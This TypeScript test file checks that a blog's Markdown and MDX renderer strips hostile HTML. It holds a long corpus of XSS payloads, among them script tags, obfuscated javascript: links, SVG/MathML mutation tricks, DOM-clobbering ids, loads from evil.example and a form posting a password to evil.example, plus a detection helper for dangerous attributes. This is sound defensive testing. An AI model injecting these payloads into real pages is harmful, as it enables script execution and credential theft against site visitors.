import type { Element, Properties, Root } from 'hast';
import rehypeRaw from 'rehype-raw';
import { VFile } from 'vfile';
import { describe, expect, it } from 'vitest';
import { sanitiseSchema } from '../../../src/markdown/sanitise-schema.ts';
import { eachElement } from '../../../src/markdown/walk.ts';
import { render } from './blog.ts';

const parse = rehypeRaw();

/** The HTML as a browser reads it, every element in order. */
function elementsOf(html: string): Element[] {
  const tree: Root = parse({ type: 'root', children: [{ type: 'raw', value: html }] }, new VFile());
  const elements: Element[] = [];
  eachElement(tree, (element) => {
    elements.push(element);
    return undefined;
  });
  return elements;
}

const ours = new Set([...(sanitiseSchema.tagNames ?? []), 'wc-video', 'label']);
const addresses = [
  'href',
  'src',
  'cite',
  'dataSrc',
  'srcSet',
  'poster',
  'action',
  'formAction',
  'data',
  'ping',
];

/** Attributes whose address is asked for without a click. */
const loaded = ['src', 'srcSet', 'poster', 'data', 'background'];
const blogOrigin = 'https://blog.example';

/** Headings may be called anything; ids that an author wrote by hand stay behind a prefix. */
function isHarmlessId(id: Properties[string]): boolean {
  return id === undefined || id === 'footnote-label' || /^user-content-\S+$/u.test(String(id));
}

function dangersIn(html: string): string[] {
  return elementsOf(html).flatMap(({ tagName, properties }) => [
    ...(ours.has(tagName) ? [] : [`<${tagName}>`]),
    ...Object.keys(properties).flatMap((name) =>
      /^on|^style$|^form|^name$|^srcDoc$|^xlink|^target$|^http/iu.test(name) ? [`${tagName}[${name}]`] : [],
    ),
    ...addresses.flatMap((name) => {
      const value = properties[name];
      if (value === undefined) return [];
      const { protocol } = new URL(String(value), blogOrigin);
      return ['https:', 'http:', 'mailto:', 'tel:'].includes(protocol)
        ? []
        : [`${tagName}[${name}=${String(value)}]`];
    }),
    ...loaded.flatMap((name) => {
      const [address = ''] = String(properties[name] ?? '').split(/[\s,]/u);
      return new URL(address, blogOrigin).origin === blogOrigin ? [] : [`${tagName}[${name}=${address}]`];
    }),
    ...(isHarmlessId(properties.id) ? [] : ['[id]']),
  ]);
}

const corpus = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="./pump.webp" onload="alert(1)" alt="x">',
  '<img """><script>alert(1)</script>">',
  '<img src=`javascript:alert(1)`>',
  '<body onload=alert(1)>text</body>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://example.com/1">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a href="//evil.example/\\@javascript:alert(1)">x</a>',
  '<a href="https://example.com" target="_blank" ping="javascript:alert(1)" onclick="alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](<java\nscript:alert(1)>)',
  '[x](javascript&colon;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](\\javascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  '![x"onerror="alert(1)](./pump.webp)',
  '![x](./pump.webp "t\\" onerror=\\"alert(1)")',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf"><applet code="x">',
  '<style>@import url(//evil.example/x.css)</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=password type=password><button formaction="javascript:alert(1)">x</button></form>',
  '<input type="image" src=x onerror=alert(1) autofocus onfocus=alert(1)>',
  '<select><option>x</option></select><textarea><script>alert(1)</script></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>',
  '<title><script>alert(1)</script></title>',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<video controls autoplay src="https://evil.example/x.webm" poster="https://evil.example/x.png">words</video>',
  '<video src="./clip.webm" onplay=alert(1) poster="https://evil.example/x.png" title="x"></video>',
  '<video title="x"><source src="./clip.webm" onerror=alert(1)><source src="//evil.example/x.webm"><track src="https://evil.example/x.vtt" default></video>',
  '<video title="x"><source src="javascript:alert(1)" type="text/html"><video src="//evil.example/y"><script>alert(1)</script></video></video>',
  '<audio autoplay src="https://evil.example/x.mp3"></audio><track src="https://evil.example/x.vtt"><source src="//evil.example/y">',
  '<picture><source srcset="https://evil.example/x.webp"><img src="https://evil.example/x.png" alt="x"></picture>',
  '<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>',
  '<marquee onstart=alert(1)>x</marquee><isindex type=image src=1 onerror=alert(1)>',
  '<img name="getElementById" id="cookie" src="./pump.webp" alt="x"><a id="document.forms" name="body">x</a>',
  '<p id="location">x</p><p id="__proto__">y</p><p id="constructor">z</p>',
  '<wc-video data-src="javascript:alert(1)"><a href="javascript:alert(1)">x</a></wc-video>',
  '<wc-slot data-number="0">x</wc-slot>',
  '<div class="callout" data-type="x" onclick="alert(1)" contenteditable>x</div>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<<script>alert(1)//<</script>',
  '</p><script>alert(1)</script><p>',
  '```"><script>alert(1)</script>\ncode\n```',
  '```html title="<img src=x onerror=alert(1)>"\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n|---|---|',
  '- [ ] <img src=x onerror=alert(1)>',
  '[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: x',
  '[[x"><img src=x onerror=alert(1)>]] [[names-that-sort|<img src=x onerror=alert(1)>]]',
  '[[names-that-sort#"><img src=x onerror=alert(1)>]]',
  '> [!NOTE]\n> <script>alert(1)</script>',
  'https://example.com/"onmouseover="alert(1)',
  '<https://example.com/"><script>alert(1)</script>>',
  '[x](https://youtu.be/dQw4w9WgXcQ"onload="alert(1))',
  '<a href="https://www.youtube.com/embed/javascript:alert(1)">x</a>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
  '<blockquote cite="javascript:alert(1)">x</blockquote><q cite="data:text/html,x">y</q>',
];

describe('hostile Markdown', () => {
  it('cannot leave the id of a heading', () => {
    const { html } = render('## <img src=x onerror=alert(1)> "><script>alert(1)</script> x');
    expect(elementsOf(html).map(({ tagName }) => tagName)).toEqual(['div', 'h2', 'a']);
    expect(html).toContain('<h2 id="-x">');
  });

  it('is dangerous without the pipeline, so that the checks below mean something', () => {
    const caught = corpus.filter((vector) => dangersIn(vector).length > 0);
    expect(caught.length).toBeGreaterThan(45);
  });

  it.each(corpus)('leaves nothing that runs or loads: %s', (vector) => {
    expect(dangersIn(render(vector).html)).toEqual([]);
    expect(dangersIn(render(`> - text ${vector}`).html)).toEqual([]);
  });

  it.each(corpus)('leaves nothing that runs or loads in .mdx: %s', (vector) => {
    expect(dangersIn(render(vector, 'mdx').html)).toEqual([]);
    expect(dangersIn(render(`<Callout>\n\n${vector}\n\n</Callout>`, 'mdx').html)).toEqual([]);
  });

  it.each([
    '<Figure src="javascript:alert(1)" alt="x" />',
    '<Figure src="./pump.webp" alt="x&quot; onerror=&quot;alert(1)" caption="<script>alert(1)</script>" />',
    '<Video href="javascript:alert(1)" title="x" />',
    '<Video src="javascript:alert(1)" title="x" />',
    '<Callout title="<img src=x onerror=alert(1)>">x</Callout>',
    '<Tabs><Tab label="<script>alert(1)</script>">x</Tab></Tabs>',
    '<li type="element" tagName="script" children="x">y</li>',
    '<div dangerouslySetInnerHTML="x" set:html="<script>alert(1)</script>">y</div>',
    '<b client:load="x" is:raw="y">z</b>',
  ])('leaves nothing of attributes in .mdx: %s', (vector) => {
    expect(dangersIn(render(vector, 'mdx').html)).toEqual([]);
  });
});
